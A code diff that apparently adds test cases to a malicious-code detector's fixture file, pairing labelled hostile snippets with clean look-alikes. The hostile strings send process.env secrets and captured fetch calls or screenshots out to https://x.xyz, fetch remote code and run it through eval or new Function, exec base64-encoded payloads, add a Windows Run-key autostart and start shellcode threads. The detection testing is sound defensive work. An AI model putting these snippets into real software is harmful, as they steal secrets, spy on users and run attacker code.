@@ -649,6 +649,18 @@ pair("input.php", "code.runs-input", "suspicious", "<?php eval($_POST['a']);\n",
 pair("input.py", "code.runs-input", "suspicious", "from flask import request\ndef f():\n    c = request.args.get('c')\n    exec(c)\n", "from flask import request\ndef f():\n    c = request.args.get('c')\n    db.exec(c)\n")
 pair("carries.js", "code.carries-script", "suspicious", "const t = '#!/bin/sh\\ncurl -o a https://x.xyz/a\\nsh a\\n';\n", "const t = '#!/bin/sh\\ncurl -o a.json https://x.xyz/a\\nnode b.js\\n';\n")
 pair("writes-program.py", "code.runs-fetched", "bad", "f.write(b'from urllib.request import urlopen as u;exec(u(\"https://x.xyz/\").read())')\n", "f.write(b'from urllib.request import urlopen as u;print(u(\"https://x.xyz/\").read())')\ns = 'exec(urlopen(u).read())'\n")
+pair("replaces.js", "code.spies", "suspicious", "const old = window.fetch;\nwindow.fetch = async function (...a) {\n  navigator.sendBeacon('https://x.xyz/c', JSON.stringify(a));\n  return old.apply(this, a);\n};\n",
+     "const old = window.fetch;\nwindow.fetch = async function (...a) {\n  log(a);\n  return old.apply(this, a);\n};\n")
+pair("arrows.js", "code.sends-secrets", "bad", "const all = () => JSON.stringify(process.env);\nconst send = async (d) => { await fetch(url, { method: 'POST', body: d }); };\nsend(all());\n",
+     "const one = () => JSON.stringify(process.env.CI);\nconst send = async (d) => { await fetch(url, { method: 'POST', body: d }); };\nsend(one());\n")
+pair("callbacks.js", "code.runs-fetched", "bad", "const https = require('https');\nhttps.get(url, (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => { eval(body); });\n});\n",
+     "const https = require('https');\nhttps.get(url, (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => { JSON.parse(body); });\n});\neval(body);\n")
+pair("members.js", "code.runs-fetched", "bad", "(async () => {\n  const { data } = await require('axios').get(url);\n  new Function('require', data.a)(require);\n})();\n", "(async () => {\n  const { data } = await require('axios').get(url);\n  use(data.a);\n})();\nnew Function('return 1')();\n")
+pair("lambda.py", "code.runs-decoded", "bad", "f = lambda t: __import__('zlib').decompress(__import__('base64').b64decode(t))\nexec(f(b'eJw='))\n", "f = lambda t: __import__('zlib').compress(t)\nprint(f(b'eJw='))\n")
+pair("screen-file.py", "code.spies", "suspicious", "import io, pyautogui, requests\ni = pyautogui.screenshot()\nb = io.BytesIO()\ni.save(b, format='PNG')\nrequests.post(url, data=b.getvalue())\n", "import io, pyautogui, requests\ni = pyautogui.screenshot()\nb = io.BytesIO()\ni.save('a.png')\nrequests.post(url, data=b.getvalue())\n")
+pair("registry.py", "code.autostart", "suspicious", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, p)\n",
+     "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Company\\Tool')\nwinreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, p)\n")
+pair("shellcode.py", "code.injects", "suspicious", "k = ctypes.windll.kernel32\nk.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0, 0, 0)\n", "k = ctypes.windll.kernel32\nk.CreateThread(0, 0, f, 0, 0, 0)\n")
 code("good-alias.js", "const assert5 = require('assert');\nassert5(await r.text());\nconst t = atob(x);\nassert5(t === 'a');\n", "clean")
 # Scripts that an AI tool runs for whoever asks.
 def skill(name, rule, bad, good):
